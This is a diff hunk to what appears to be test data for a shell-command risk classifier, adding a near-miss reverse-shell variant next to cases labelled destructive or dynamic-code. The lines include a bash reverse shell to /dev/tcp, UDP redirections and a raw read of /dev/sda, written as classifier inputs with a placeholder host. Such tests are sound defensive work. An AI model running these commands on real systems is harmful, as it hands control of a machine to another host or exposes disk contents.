@@ -35,6 +35,8 @@ echo a > /dev/udp/db/53
   => - | - | - | - | - | - | read none reversible
 bash -i >& /dev/tcp/x/1
   => - | - | - | - | - | - | execute unknown DESTRUCTIVE ~ dynamic-code: Hands its input and output to another machine.
+bash -i >& x/dev/tcp/x/1
+  => - | - | - | - | - | - | execute unknown
 echo a &> /dev/udp/x/1
   => - | - | - | - | - | - | read none DESTRUCTIVE ~ dynamic-code: Hands its input and output to another machine.
 cat < /dev/sda
